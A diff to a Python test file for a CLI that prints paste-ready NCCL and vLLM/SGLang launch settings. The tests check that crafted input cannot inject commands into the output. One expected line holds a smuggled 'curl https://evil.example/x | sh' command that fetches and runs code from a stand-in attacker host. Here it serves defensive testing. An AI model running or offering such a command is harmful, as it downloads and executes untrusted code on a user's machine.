@@ -113,7 +113,10 @@ def test_vllm_on_the_pcie_run_offers_flashinfer_pcie_ipc_as_opt_in(capsys):
     engine_part, _ = _sections(text)
     (line,) = [x for x in engine_part.splitlines() if x.startswith("FlashInfer PCIe IPC allreduce")]
     assert "opt-in" in line and "available" in line and "not measured" in line
-    paste = [x.strip() for x in engine_part.splitlines() if x.startswith("    ")]
+    lines = engine_part.splitlines()
+    start = lines.index("  paste-ready:") + 1
+    paste = [x.strip() for x in lines[start:start + 3]]
+    assert not lines[start + 3].startswith("    ")
     # the engine's custom AR and symm-mem are off here: no setting that only turns them off is printed
     assert paste == ["export NCCL_ALGO=Ring", "export NCCL_PROTO=LL", "vllm serve MODEL --tensor-parallel-size 8"]
 
@@ -168,7 +171,7 @@ def test_a_crafted_run_never_turns_a_pasted_line_into_a_command(tmp_path, capsys
     run = _crafted_run(tmp_path, settings)
     assert cli(["recommend", str(run), "--model", "llama-3.1-70b", "--engine", "sglang", "--concurrency", "1"]) == 0
     text = capsys.readouterr().out
-    pasted = [x for x in text.splitlines() if x.startswith("    ")]
+    pasted = [x for x in text.splitlines() if x.startswith("    ")]     # cost rows too: a superset
     assert not any("curl" in x for x in pasted)
     if "notes" in settings:   # a note is printed on one line, outside the paste-ready block
         assert "  note: fine curl https://evil.example/x | sh" in text.splitlines()
